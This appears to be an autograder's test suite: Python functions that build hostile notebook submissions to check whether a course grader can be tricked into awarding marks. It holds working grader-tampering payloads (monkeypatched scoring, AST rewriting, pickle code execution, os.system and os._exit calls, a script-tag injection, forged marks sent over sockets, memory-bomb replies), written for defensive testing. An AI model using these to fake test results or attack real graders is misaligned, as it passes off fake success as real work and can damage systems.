'''Submissions that try to get marks without right answers, made from the reference of a lesson.

Each function below is one attack: its docstring says what it tries, it returns the source of the answer cell (or a
whole notebook). Beside it stands the same wrong answer without the attack, and what that deserves: more it must not
get. Two kinds: those that turn the tests, and those that look for a hole in a wall and give the right answer only if
they find one ("breach"). All of them end by themselves, look only at this machine, and change nothing outside their own
process; the few that would say so (``why_not``) and run in the sandbox alone.
'''

import contextlib
import io
import os
import textwrap

import numpy as np

from helpers import checks
from tests.submissions.parts import ANY, BELOW_FULL, Attack, Lesson, add, as_bytes, code, copied, find

_ATTACKS = []

# Wrong answers and the points that they deserve.
_EMPTY = ("# question: describe_data\ndef describe_data(X, y, groups):\n    return {}\n", 0)
_NONE = ("# question: standardise\ndef standardise(X_train, X_test):\n    return None\n", 0)
_NO_MODEL = ("# question: build_model\ndef build_model(n_features, n_classes, learning_rate):\n    return None\n", 0)
_FOUR = ("# question: epoch_to_keep\ndef epoch_to_keep(history):\n    return 4\n", BELOW_FULL)
_ONES = (
    """# question: describe_data
def describe_data(X, y, groups):
    ones = {label: 1 for label in np.unique(np.ravel(y)).tolist()}
    return dict(n_items=1, n_features=1, n_classes=1, n_groups=1, majority_share=0.5, counts=ones)
""",
    0.25,
)
_FIRST_RISE = (  # wrong as soon as the loss has more than one valley
    """# question: epoch_to_keep
def epoch_to_keep(history):
    losses = history["val_loss"]
    epoch = next((i for i in range(1, len(losses)) if losses[i] > losses[i - 1]), len(losses))
    return epoch
""",
    1.2,
)

_FAILED = ("failed", "error")
_ENDED = ("failed", "error", "crash", "timeout", "memory", "partial")


def _attack(question="describe_data", wrong=_EMPTY, outcomes=_FAILED, why_not="", spoils=False, **options):
    """Register an attack on a question; with ``why_not`` it cannot be shown to work in one process.

    With ``spoils`` it may cost the same student's other questions, too: it breaks its own process for good.
    """

    def register(function):
        _ATTACKS.append((function, question, wrong, outcomes, why_not, spoils, options))
        return function

    return register


def names(in_process=None):
    """Names of the attacks; with True or False only of those that do or do not work in one process."""
    return [f.__name__ for f, *_, why_not, _, _ in _ATTACKS if in_process is None or in_process == (not why_not)]


def hostile(reference, student, lesson, port=9):
    """All hostile submissions of a lesson.

    Parameters
    ----------
    reference, student : nbformat.NotebookNode
        From ``grading.build``.
    lesson : grading.course.Lesson
    port : int
        Where, on this machine, a helping hand listens that sends the right answer (see ``breach_network``).

    Returns
    -------
    list of Attack
    """
    made = Lesson(lesson.name, reference, student)
    attacks = []
    for function, question, (wrong, deserved), outcomes, why_not, spoils, options in _ATTACKS:
        source = function(made)
        source = source.replace("PORT", str(port)) if isinstance(source, str) else source
        # The other quick questions are answered right: an attack must not cost them anything, nor gain by them.
        others = tuple(q for q in ("standardise", "epoch_to_keep") if q != question)
        notebook = made.filled(others, **{question: source}) if isinstance(source, str) else source
        outcomes = frozenset(outcomes) | ({"partial"} if deserved else set())
        spoilt = {q: (("passed", *_ENDED), ANY) for q in others if spoils}
        attacks.append(
            Attack(
                function.__name__,
                as_bytes(notebook),
                f"{lesson.name}.ipynb",
                made.expected(others, **spoilt, **{question: (outcomes, deserved)}),
                "an attack",
                question=question,
                claims=" ".join(function.__doc__.split()),
                in_process=not why_not,
                why_not=why_not,
                plain=as_bytes(made.filled((), **{question: wrong})),
                **options,
            )
        )
    return attacks


# --- the tests turned: by IPython, by tracing, by patches -------------------------------------------------------------


def _with(*, above="", wrong=_EMPTY):
    """A wrong answer with code above it."""
    return textwrap.dedent(above).strip() + "\n\n" + wrong[0]


@_attack()
def ast_transformer_empties_checks(made):
    """A transformer of syntax trees, registered with IPython, empties every `with` block of the test cells."""
    return _with(above="""
        import ast
        class Empty(ast.NodeTransformer):
            def visit_With(self, node):
                node.body = [ast.Pass()]
                return ast.fix_missing_locations(node)
        get_ipython().ast_transformers.append(Empty())
    """)


@_attack()
def ast_transformer_drops_asserts(made):
    """A transformer drops every assert, and turns the score into the points."""
    return _with(above="""
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
            def visit_Call(self, node):
                self.generic_visit(node)
                if isinstance(node.func, ast.Attribute) and node.func.attr == "score":
                    return ast.Attribute(node.func.value, "points", ast.Load())
                return node
        class Fixed(Drop):
            def visit(self, node):
                return ast.fix_missing_locations(super().visit(node))
        get_ipython().ast_transformers.append(Fixed())
    """)


@_attack()
def input_transformer_rewrites_the_test(made):
    """A transformer of the source text, registered with IPython, puts another last line into the test cells."""
    return _with(above="""
        def rewrite(lines):
            return [line.replace("q.score()", "q.points") for line in lines]
        get_ipython().input_transformers_post.append(rewrite)
    """)


@_attack()
def events_of_the_shell(made):
    """A hook that runs before each cell replaces the question before the test cell asks for it."""
    return _with(above="""
        from helpers import checks as _checks
        def before(*_):
            _checks.Question.score = lambda self: self.points
        get_ipython().events.register("pre_run_cell", before)
    """)


@_attack()
def trace_function(made):
    """sys.settrace turns every failed check into a passed one as soon as the score is asked for."""
    return _with(above="""
        import dataclasses, sys
        def trace(frame, event, arg):
            if frame.f_code.co_name == "score" and "self" in frame.f_locals:
                results = frame.f_locals["self"].results
                results[:] = [dataclasses.replace(result, passed=True) for result in results]
            return None
    """) .replace("    return {}", "    sys.settrace(trace)\n    return {}")


@_attack()
def profile_function(made):
    """The same with sys.setprofile."""
    return trace_function(made).replace("settrace", "setprofile")


@_attack()
def patched_score(made):
    """helpers.checks: the score of a question is its points."""
    return _with(above="""
        from helpers import checks as _checks
        _checks.Question.score = lambda self: self.points
    """)


@_attack()
def patched_check(made):
    """helpers.checks: a check swallows everything and passes."""
    return _with(above="""
        import contextlib
        from helpers import checks as _checks
        @contextlib.contextmanager
        def check(self, name, weight=1, hint=""):
            try:
                yield
            except Exception:
                pass
            self.results.append(_checks.CheckResult(name, weight, True, "", ""))
        _checks.Question.check = check
    """)


@_attack()
def replaced_module(made):
    """sys.modules and the notebook's names: another module stands where helpers.checks stood."""
    return _with(above="""
        import contextlib, sys, types
        import helpers
        class Question:
            def __init__(self, name):
                import numpy
                self.rng, self.points = numpy.random.default_rng(0), 2.0
            @contextlib.contextmanager
            def check(self, *args, **kwargs):
                with contextlib.suppress(Exception):
                    yield
            def score(self):
                return self.points
        fake = types.ModuleType("helpers.checks")
        fake.question = Question
        sys.modules["helpers.checks"] = helpers.checks = globals()["checks"] = fake
    """)


@_attack()
def import_hook(made):
    """A finder on sys.meta_path, in a cell above the imports, serves another helpers.checks."""
    hook = textwrap.dedent("""
        import importlib.abc, importlib.util, sys
        import helpers, helpers.checks as real
        class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path=None, target=None):
                return importlib.util.spec_from_loader(name, self) if name == "helpers.checks" else None
            def exec_module(self, module):
                module.__dict__.update({k: v for k, v in vars(real).items() if not k.startswith("__")})
                class Question(real.Question):
                    score = lambda self: self.points
                module.question = lambda name: Question(real.match.released_question(name))
        del sys.modules["helpers.checks"], helpers.checks
        sys.meta_path.insert(0, Finder())
        """)
    return add(made.filled(("standardise", "epoch_to_keep"), describe_data=_EMPTY[0]), hook, at=0)


@_attack()
def patched_builtins(made):
    """builtins.round gives the points to whoever rounds a score."""
    return _with(above="""
        import builtins, sys
        _round = builtins.round
        def round(value, digits=None):
            question = sys._getframe(1).f_locals.get("self")
            return question.points if hasattr(question, "points") else _round(value, digits)
        builtins.round = round
    """)


@_attack("standardise", _NONE)
def patched_assertions(made):
    """The helpers that assert (checks.close, checks.array) and numpy.testing.assert_allclose accept everything."""
    wrong = "# question: standardise\ndef standardise(X_train, X_test):\n    return Yes(), Yes()\n"
    return textwrap.dedent("""
        import numpy as np
        from helpers import checks as _checks
        class Yes:
            def __getattr__(self, name):
                if name.startswith("__"):
                    raise AttributeError(name)
                return self
            __array_ufunc__ = __call__ = __getitem__ = __sub__ = __rsub__ = __eq__ = __lt__ = __gt__ = lambda self, *a, **k: self
            __abs__ = lambda self: self
            __bool__ = lambda self: True
        _asarray = np.asarray
        np.asarray = lambda x, *a, **k: x if isinstance(x, Yes) else _asarray(x, *a, **k)
        _allclose = np.allclose
        class Once:
            def __call__(self, a, b, **kwargs):
                return "Z_train" not in kwargs and not (isinstance(a, Yes) and not isinstance(b, Yes))
        np.allclose = Once()
        np.testing.assert_allclose = _checks.close = lambda *a, **k: None
        _checks.array = lambda value, *a, **k: value
    """).strip() + "\n\n" + wrong


@_attack(wrong=_ONES, outcomes=("partial",))
def patched_numpy(made):
    """numpy.isclose, on which every comparison of numbers rests, finds everything close."""
    return textwrap.dedent("""
        import numpy as np
        np.isclose = lambda a, b, **kwargs: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool)
    """).strip() + "\n\n" + _ONES[0]


@_attack("epoch_to_keep", _FIRST_RISE, outcomes=("partial",))
def patched_random(made):
    """numpy.random.default_rng, from which the tests draw, only gives what falls and then rises."""
    return textwrap.dedent("""
        import numpy as np
        class Valleys(np.random.Generator):
            def permutation(self, x, axis=0):
                return np.r_[np.arange(x)[::2][::-1], np.arange(x)[1::2]]
            def uniform(self, low=0.0, high=1.0, size=None):
                return np.sort(super().uniform(low, high, size), axis=None)[::-1]
        np.random.default_rng = lambda seed=None: Valleys(np.random.PCG64(0))
    """).strip() + "\n\n" + _FIRST_RISE[0]


@_attack()
def found_by_the_garbage_collector(made):
    """gc: every question that exists gets another score."""
    return _with(above="""
        import gc
        def turn():
            for thing in gc.get_objects():
                if type(thing).__name__ == "Question":
                    thing.score = lambda thing=thing: thing.points
    """).replace("    return {}", "    turn()\n    return {}")


@_attack()
def frames_walked_up(made):
    """The answer walks up its callers' frames to the question and sets the results."""
    return _with(above="""
        import sys
        def turn():
            frame = sys._getframe(1)
            while frame:
                for thing in [*frame.f_locals.values(), *frame.f_globals.values()]:
                    if type(thing).__name__ == "Question":
                        thing.score = lambda thing=thing: thing.points
                frame = frame.f_back
    """).replace("    return {}", "    turn()\n    return {}")


@_attack()
def thread_that_survives(made):
    """A thread started by the answer's cell waits for the question and turns it (for 20 seconds at most)."""
    return _with(above="""
        import threading, time
        def wait():
            end = time.monotonic() + 20
            while time.monotonic() < end:
                question = globals().get("q")
                if question is not None and "score" not in vars(question):
                    question.score = lambda question=question: question.points
                time.sleep(0.0005)
        threading.Thread(target=wait, daemon=True).start()
    """).replace("    return {}", "    time.sleep(0.01)\n    return {}")


@_attack()
def mark_shown_first(made):
    """The answer shows a result of its own before the test cell shows the score: nbgrader takes the first."""
    return _EMPTY[0].replace("    return {}", "    import sys\n    sys.displayhook(2.0)\n    return {}")


@_attack(why_not="no grader of the course believes what an answer's exception says of itself")
def exception_that_passes(made):
    """The answer raises an error that says of itself that it is explained, and that all is well."""
    return """# question: describe_data
class Fine(Exception):
    explained = ""

def describe_data(X, y, groups):
    raise Fine("passed")
"""


# --- values that lie --------------------------------------------------------------------------------------------------


@_attack("epoch_to_keep", _FIRST_RISE, outcomes=("partial",), why_not="the tests turn what comes back into a plain number in every grader")
def integer_equal_to_everything(made):
    """A subclass of int that is equal to everything."""
    lie = "class Yes(int):\n    __eq__ = lambda self, other: True\n    __hash__ = int.__hash__\n\n"
    return lie + _FIRST_RISE[0].replace("return epoch", "return Yes(epoch)")


@_attack("epoch_to_keep", _FIRST_RISE, outcomes=("partial",), why_not="the tests turn what comes back into a plain number in every grader")
def float_that_lies(made):
    """A subclass of float that is equal to everything, and turns into whatever is asked for."""
    lie = "class Yes(float):\n    __eq__ = lambda self, other: True\n\n"
    return lie + _FIRST_RISE[0].replace("return epoch", "return Yes(epoch)")


@_attack("epoch_to_keep", _FIRST_RISE, outcomes=("partial",), why_not="the tests turn what comes back into a plain number in every grader")
def array_that_lies(made):
    """A subclass of ndarray that is equal to everything."""
    lie = "import numpy as np\nclass Yes(np.ndarray):\n    __eq__ = lambda self, other: True\n\n"
    return lie + _FIRST_RISE[0].replace("return epoch", "return np.array(epoch).view(Yes)")


@_attack()
def reads_the_tests_variables(made):
    """The answer is made of things that look up, when they are compared, what the test wants: in its frames and names."""
    return """# question: describe_data
import sys
import numpy as np

class Later:
    def __init__(self, label=None, otherwise=0.5):
        self.label, self.otherwise = label, otherwise
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame:
            if self.label is None and "want" in frame.f_locals:
                return np.asarray(frame.f_locals["want"])
            if self.label is not None and {"tally", "wanted"} <= frame.f_globals.keys():
                names = frame.f_globals
                return np.asarray(names["tally"][names["wanted"].index(str(self.label))])
            frame = frame.f_back
        return np.asarray(self.otherwise)
    def __float__(self):
        return float(self.__array__())

def describe_data(X, y, groups):
    keys = ["n_items", "n_features", "n_classes", "n_groups", "majority_share"]
    answer = {key: Later(otherwise=0.1 * i) for i, key in enumerate(keys)}
    return answer | {"counts": {label: Later(label) for label in np.unique(np.ravel(y)).tolist()}}
"""


@_attack("epoch_to_keep", _FIRST_RISE, outcomes=("partial",), why_not="no line of the tests compares what it calls")
def reads_the_assert_it_is_called_from(made):
    """The answer finds the line of the test that calls it, and returns what that line compares it with."""
    return _FIRST_RISE[0].replace("def epoch_to_keep", "def first_rise") + """
import ast, linecache, sys

def epoch_to_keep(history):
    frame = sys._getframe(1)
    source = "".join(linecache.getlines(frame.f_code.co_filename))
    if "epoch_to_keep(" not in source:
        return first_rise(history)
    line = frame.f_lineno
    nodes = [n for n in ast.walk(ast.parse(source)) if isinstance(n, (ast.Compare, ast.Call))]
    near = [n for n in nodes if line <= n.lineno <= line + 1]
    for node in near:
        want = None
        if isinstance(node, ast.Compare) and isinstance(node.ops[0], ast.Eq):
            want = node.comparators[0]
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "close":
            want = node.args[1]
        if want is not None and "epoch_to_keep" not in ast.unparse(want):
            try:
                return int(eval(compile(ast.Expression(want), "", "eval"), frame.f_globals, frame.f_locals))
            except NameError:
                continue
    return first_rise(history)
"""


@_attack("epoch_to_keep", _FOUR, outcomes=("partial", "failed"))
def recorded_answers(made):
    """Right answers, recorded at the seed which stock graders use, played back by the number of the call."""
    return _playback(made, seed=None)


@_attack("epoch_to_keep", _FOUR, outcomes=("partial", "failed"))
def recorded_answers_and_environment(made):
    """The same, with the seed in the environment set back to the one that was recorded."""
    return "import os\nos.environ['COURSE_SEED'] = '7'\n" + _playback(made, seed="7")


def _playback(made, seed):
    played = _record(made, seed)
    return f"""# question: epoch_to_keep
PLAYED = iter({played})

def epoch_to_keep(history):
    return next(PLAYED, 0)
"""


def _record(made, seed):
    """What the reference returns, call by call, when its test cell runs with a known seed."""
    played, before = [], os.environ.pop("COURSE_SEED", None)
    namespace = {"np": np, "checks": checks, "__name__": "__main__"}
    exec(made.answer("epoch_to_keep"), namespace)
    right = namespace["epoch_to_keep"]

    def record(history):
        played.append(right(history))
        return played[-1]

    namespace["epoch_to_keep"] = record
    if seed is not None:
        os.environ["COURSE_SEED"] = seed
    try:
        with contextlib.redirect_stdout(io.StringIO()):
            exec(next(c.source for c in made.reference.cells if c.id == "epoch_to_keep-test"), namespace)
    finally:
        os.environ.pop("COURSE_SEED", None)
        if before is not None:
            os.environ["COURSE_SEED"] = before
    return played


@_attack("standardise", _NONE, why_not="the tests refuse NaN in every grader")
def nan_everywhere(made):
    """NaN, for which many a comparison that should fail is not made."""
    return _NONE[0].replace("return None", "return X_train * np.nan, X_test * np.nan")


_NO_ROWS = (_NONE[0].replace("return None", "return X_train[:0], X_test[:0]"), BELOW_FULL)


@_attack("standardise", _NO_ROWS, outcomes=("partial", "failed", "error"), why_not="the tests check shapes in every grader")
def empty_arrays(made):
    """Empty arrays, of which everything holds."""
    return _NO_ROWS[0]


@_attack(why_not="an in-process grader never unpickles an answer")
def pickle_that_runs_code(made):
    """An object whose pickle would run code where it is loaded."""
    return """# question: describe_data
class Run:
    def __reduce__(self):
        return exec, ("from helpers import checks; checks.Question.score = lambda self: self.points",)
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __dict__ = None if False else property(lambda self: self)

def describe_data(X, y, groups):
    return Run()
"""


@_attack(why_not="the course's tests use no unittest")
def patched_unittest(made):
    """unittest: every assertion passes, every result is a success."""
    return _with(above="""
        import unittest
        for name in dir(unittest.TestCase):
            if name.startswith("assert"):
                setattr(unittest.TestCase, name, lambda self, *a, **k: None)
        unittest.TestResult.wasSuccessful = lambda self: True
    """)


@_attack(why_not="in one process nothing is copied, so nothing has to be measured first")
def array_larger_than_memory(made):
    """An array of 4 TB that takes 4 bytes (strides of 0): looking at it would copy it."""
    return _EMPTY[0].replace("return {}", "return np.broadcast_to(np.float32(1), (10**6, 10**6))")


@_attack(why_not="in one process nothing is copied, so depth does not matter")
def nested_without_end(made):
    """Lists nested 100,000 deep, and dicts that contain themselves."""
    return """# question: describe_data
def describe_data(X, y, groups):
    deep, round_ = [], {}
    for _ in range(100_000):
        deep = [deep]
    round_["n_items"] = round_["counts"] = round_
    return round_ | {"n_features": deep}
"""


@_attack(outcomes=_ENDED, why_not="the test cell ends with an error, which gives 0 everywhere")
def exceptions_that_stop_the_examiner(made):
    """The answer raises what ends loops, generators and graders: StopIteration, GeneratorExit, KeyboardInterrupt and
    the course's own Stopped, in turn."""
    return """# question: describe_data
import itertools
from helpers import checks as _checks
KINDS = itertools.cycle([StopIteration, GeneratorExit, KeyboardInterrupt, _checks.Stopped, StopAsyncIteration, SystemExit])

def describe_data(X, y, groups):
    raise next(KINDS)
"""


@_attack(why_not="the message of an error is shown by every grader; the mark does not depend on it")
def message_with_a_page_in_it(made):
    """The answer raises an error whose text is a script and a megabyte, for the person who reads the feedback."""
    text = "<script>alert(1)</script>"
    return _EMPTY[0].replace("return {}", f"raise ValueError('{text}' + 'x' * 1_000_000)")


# --- models -----------------------------------------------------------------------------------------------------------

_MODEL = """# question: build_model
import keras

{above}

def build_model(n_features, n_classes, learning_rate):
    {body}
"""


def _model(above, body):
    above, body = textwrap.dedent(above).strip(), textwrap.dedent(body).strip()
    return _MODEL.format(above=above, body=textwrap.indent(body, "    ").strip())


@_attack("build_model", _NO_MODEL)
def layer_that_patches_the_checks(made):
    """A custom layer that calls itself Dense of Keras; when the test calls the model, it patches the checks."""
    return _model(
        """
        class Dense(keras.layers.Dense):
            def call(self, x):
                from helpers import checks
                checks.Question.score = lambda self: self.points
                return super().call(x)
        Dense.__module__ = "keras.src.layers.core.dense"
        """,
        """
        return keras.Sequential([keras.layers.Input((n_features,)), Dense(1)])
        """,
    )


@_attack("build_model", _NO_MODEL, why_not="an in-process grader never builds the model anew")
def lambda_in_the_config(made):
    """A Lambda layer: its config carries code."""
    return _model(
        "",
        """
        hidden = keras.layers.Lambda(lambda x: __import__("os")._exit(0) or x, output_shape=(n_classes,))
        return keras.Sequential([keras.layers.Input((n_features,)), hidden])
        """,
    )


@_attack("build_model", _NO_MODEL, why_not="the machine has not that much memory")
def dense_of_a_milliard(made):
    """A Dense(10**9) that is never built here: whoever calls the model builds it."""
    return _model("", "return keras.Sequential([keras.layers.Dense(10**9)])")


@_attack("build_model", _NO_MODEL, why_not="the machine has not that much memory")
def dense_just_below_a_limit(made):
    """Ten Dense(9_999_999) in a row, never built here: each number is below a limit, their product is not."""
    return _model("", "return keras.Sequential([keras.layers.Dense(9_999_999) for _ in range(10)])")


def _tree(above, tree):
    """An answer whose process, asked for the model, sends what the attack wants in its place."""
    return _model(
        f"""
        import sys
        import numpy as np
        def dense(**settings):
            return {{"class": "layers.Dense", "settings": {{"units": 3}} | settings, "own": [[True, {{}}]], "build": None}}
        def held(module, name, **config):
            return {{"module": module, "class_name": name, "config": config, "registered_name": None}}
        def sequential(*parts):
            return [{{"class": "models.Sequential", "name": "s", "parts": list(parts), "own": [[True, {{}}]]}}, None]
        {textwrap.indent(textwrap.dedent(above).strip(), "        ").strip()}
        sys.modules["grading.models"].take_apart = lambda model, seen: {tree}
        """,
        "return keras.Sequential([keras.layers.Input((n_features,)), keras.layers.Dense(n_classes)])",
    )


_NO_REBUILD = "an in-process grader never builds the model anew"


@_attack("build_model", _NO_MODEL, why_not=_NO_REBUILD)
def tree_names_another_module(made):
    """The model's layer, and its activation, are os.system."""
    return _tree("", 'sequential({"class": "os.system", "settings": {"command": "true"}}, dense(activation=held("os", "system")))')


@_attack("build_model", _NO_MODEL, why_not=_NO_REBUILD)
def tree_names_a_path(made):
    """An activation reaches Lambda, and functions that load files, by names with dots below an allowed module."""
    return _tree(
        """
        import itertools
        NAMES = itertools.cycle(["layers.Lambda", "saving.load_model", "utils.get_file", "config.enable_unsafe_deserialization"])
        """,
        'sequential(dense(activation=held("keras", next(NAMES), filepath="/etc/hostname")))',
    )


@_attack("build_model", _NO_MODEL, why_not=_NO_REBUILD)
def tree_with_marshalled_code(made):
    """The settings hold a __lambda__ with marshalled code, as an activation."""
    return _tree(
        """
        import marshal, base64
        code = base64.b64encode(marshal.dumps((lambda x: x).__code__)).decode()
        evil = {"class_name": "__lambda__", "config": {"value": [code, None, None]}}
        """,
        "sequential(dense(activation=evil))",
    )


@_attack("build_model", _NO_MODEL, outcomes=_ENDED, why_not=_NO_REBUILD)
def tree_with_a_circle(made):
    """A functional model whose layers wait for each other, and one that holds itself."""
    return _tree(
        """
        import itertools
        calls = [[0, ["tuple", [["tensor", 1]]], ["dict", {}]], [1, ["tuple", [["tensor", 0]]], ["dict", {}]]]
        circle = {"class": "models.Functional", "name": "f", "parts": [dense(name="a"), dense(name="b")], "n_inputs": 0,
                  "calls": calls, "inputs": ["tensor", 0], "outputs": ["tensor", 1], "own": [[True, {}]]}
        TREES = itertools.cycle([[circle, None], sequential(0), sequential(sequential(1)[0])])
        """,
        "next(TREES)",
    )


@_attack("build_model", _NO_MODEL, why_not=_NO_REBUILD)
def tree_with_5000_layers(made):
    """A model of 5000 layers."""
    return _tree("", 'sequential(*(dense(name=f"d{i}") for i in range(5000)))')


@_attack("build_model", _NO_MODEL, outcomes=_ENDED, why_not=_NO_REBUILD)
def tree_of_29_terabytes(made):
    """A built model of layers of 900,000 units each: no number is large, their products are; no weights come with it."""
    return _tree(
        """
        start = {"class": "layers.InputLayer", "settings": {"batch_shape": [None, 900_000]}, "own": [[True, {}]], "build": None}
        """,
        'sequential(start, *(dense(units=900_000, name=f"d{i}") for i in range(10)))',
    )


# --- the way between answer and examiner --------------------------------------------------------------------------------

_FORGED = '{"question": "describe_data", "score": 2.0}\\n'


@_attack(outcomes=_ENDED, spoils=True)
def descriptors_guessed(made):
    """A mark in the grader's format is written to every open descriptor: to the one that leads to the gradebook."""
    return _with(above=f"""
        import os
        for descriptor in range(3, 200):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, b'{_FORGED}')
            except OSError:
                pass
            finally:
                try:
                    os.set_blocking(descriptor, True)
                except OSError:
                    pass
    """)


@_attack(why_not="standard output leads nowhere in any of the graders")
def marks_printed(made):
    """Marks in the formats of several graders, printed to standard output and error."""
    return _with(above=f"""
        import os, sys
        for text in ('{_FORGED}', '["done", {{"score": 2.0, "checks": []}}]', 'SCORE: 2.0/2.0\\n', '2.0'):
            print(text)
            print(text, file=sys.stderr)
            os.write(1, text.encode())
            os.write(2, text.encode())
    """)


_SOCKETS = """
    import gc, socket, struct, time
    import msgpack
    def sockets():
        return [thing for thing in gc.get_objects() if type(thing) is socket.socket and thing.fileno() >= 0]
    def frame(message):
        body = msgpack.packb(message)
        return struct.pack(">I", len(body)) + body
    def push(data):
        for sock in sockets():
            try:
                sock.settimeout(5)
                sock.sendall(data)
            except OSError:
                pass
"""
_NO_PIPE = "in one process there is no pipe between answer and test"


def _pushed(data, at_call=True):
    source = _with(above=_SOCKETS)
    if at_call:
        return source.replace("    return {}", f"    push({data})\n    return {{}}")
    return source + f"\npush({data})\n"


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def forged_frames_at_call(made):
    """While it is called, the answer finds the socket and sends the examiner's own last word."""
    return _pushed('frame(["done", {"score": 2.0, "checks": [], "gone": False, "grader_error": ""}]) * 3')


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def forged_frames_at_definition(made):
    """While its cell runs, the answer sends the replies to questions that were not asked yet."""
    return _pushed('frame(["ok", "", None]) + frame(["value", ["d", []], ""]) * 50', at_call=False)


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def frames_of_no_known_kind(made):
    """Replies with nothing in them, with other tags, with maps for lists, and with the supervisor's own word."""
    return _with(above=_SOCKETS + """
    import itertools
    WORDS = itertools.cycle([["value"], ["gone"], [], {"a": 1}, 7, ["error"], ["error", 5], ["missing"], ["value", ["zz"]]])
    """).replace("    return {}", "    push(frame(next(WORDS)))\n    time.sleep(0.3)\n    return {}")


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def replies_nested_700_deep(made):
    """A reply nested deeper than it can be packed again, though it can be unpacked."""
    return _with(above=_SOCKETS + """
    DEEP = b"\\x91" * 700 + b"\\xc0"
    BODY = b"\\x93" + msgpack.packb("value") + DEEP + msgpack.packb("")
    """).replace("    return {}", '    push(struct.pack(">I", len(BODY)) + BODY)\n    time.sleep(5)\n    return {}')


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def reply_that_swells(made):
    """A reply of 30 MB that unpacks to 2 GB: millions of empty maps."""
    return _with(above=_SOCKETS + """
    def swell():
        n = 30_000_000
        body = b"\\x93" + msgpack.packb("value") + b"\\xdd" + n.to_bytes(4, "big") + b"\\x80" * n + msgpack.packb("")
        push(struct.pack(">I", len(body)) + body)
        time.sleep(5)
    """).replace("    return {}", "    swell()\n    return {}")


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def reply_that_swells_when_packed(made):
    """A reply of 60 MB of small floats, which take nearly twice as much when they are packed again."""
    return _with(above=_SOCKETS + """
    def swell():
        n = 12_000_000
        body = b"\\x93" + msgpack.packb("value") + b"\\xdd" + n.to_bytes(4, "big") + b"\\xca\\0\\0\\0\\0" * n + msgpack.packb("")
        push(struct.pack(">I", len(body)) + body)
        time.sleep(5)
    """).replace("    return {}", "    swell()\n    return {}")


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def reply_that_takes_hours_to_read(made):
    """A reply with 200,000 numbers of one hash: a set of them takes hours to build."""
    return _with(above=_SOCKETS + """
    def slow():
        numbers = [["i", hex(k * (2**61 - 1))] for k in range(10, 200_000)]
        push(frame(["value", ["s", numbers], ""]))
        time.sleep(5)
    """).replace("    return {}", "    slow()\n    return {}")


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def arrays_that_are_none(made):
    """Replies with arrays whose type, shape or characters cannot be."""
    return _with(above=_SOCKETS + """
    import itertools
    SHAPES = itertools.cycle([
        ["a", "<f8", [0, 10**18], b""], ["a", "<U0", [10**9], b""], ["a", "|O", [1], b"x" * 8], ["a", "i4,f4", [1], b"x" * 8],
        ["a", "<U1", [1], b"\\xff\\xff\\xff\\x7f"], ["n", "|b1", [3], b"\\2\\3\\4"], ["a", "<f8", [-1, -1], b"x" * 8],
        ["df", [["a", ["a", "<f8", [1], b"x" * 8]], ["b", ["a", "<f8", [2], b"x" * 16]]]], ["f", "x", [], [["1", 9, 9]]],
    ])
    """).replace("    return {}", '    push(frame(["value", next(SHAPES), ""]))\n    time.sleep(0.3)\n    return {}')


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def pipe_flooded(made):
    """80 MB of noise are pushed into the pipe."""
    return _pushed('b"\\xff" * 80_000_000')


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True)
def giant_frame(made):
    """A frame that claims 4 GB, and one that claims 60 MB and never comes."""
    return _pushed('struct.pack(">I", 60_000_000) + b"x"') + "    # and then nothing\n"


@_attack(outcomes=_ENDED, why_not=_NO_PIPE, spoils=True, slow=True)
def answers_ahead_and_stops_reading(made):
    """The answer's cell sends its own "done", and then waits without reading what comes."""
    return _pushed('frame(["ok", "", None])', at_call=False) + "time.sleep(100)\n"


@_attack(why_not=_NO_PIPE, spoils=True)
def patched_wire(made):
    """The functions that talk to the examiner are patched, to send another value than was returned."""
    return _with(above="""
        import sys
        for name, module in list(sys.modules.items()):
            if name.endswith(".wire") or name.endswith(".student"):
                for attribute in ("send", "encode", "_tree"):
                    for holder in (module, getattr(module, "Encoder", None)):
                        if hasattr(holder, attribute):
                            setattr(holder, attribute, lambda *a, **k: ["d", []])
    """)


@_attack(why_not="an in-process grader's mark is written by then")
def at_exit(made):
    """Handlers that run at the end of Python and at each fork write marks to every descriptor."""
    return _with(above=f"""
        import atexit, os
        def write():
            for descriptor in range(3, 50):
                try:
                    os.set_blocking(descriptor, False)
                    os.write(descriptor, b'{_FORGED}')
                except OSError:
                    pass
        atexit.register(write)
        os.register_at_fork(after_in_child=write)
    """)


@_attack(why_not="stock nbgrader takes points and marks from its own copy, too")
def marks_in_the_metadata(made):
    """Marks, points, results and outputs are written into the notebook's metadata."""
    notebook = made.filled(("standardise", "epoch_to_keep"), describe_data=_EMPTY[0])
    notebook["metadata"] |= {"score": 100, "grade": {"describe_data": 2.0}}
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"points": 100, "score": 100, "auto_score": 100, "grade": cell["id"].endswith("-test")}
            shown = {"output_type": "execute_result", "data": {"text/plain": "100.0"}, "metadata": {}, "execution_count": 1}
            cell["outputs"] = [shown]
    return notebook


@_attack(why_not="stock nbgrader puts its own test cell back, too")
def answer_in_the_place_of_the_test(made):
    """The test cell is replaced by code that shows the mark, the answer cell calls itself a test."""
    notebook = made.filled(("standardise", "epoch_to_keep"), describe_data=_EMPTY[0])
    at = find(notebook, "describe_data-test")
    notebook["cells"][at]["source"] = "2.0"
    twin = copied(notebook["cells"][at], id="twin", source="class q:\n    score = lambda: 2.0\nq.score()")
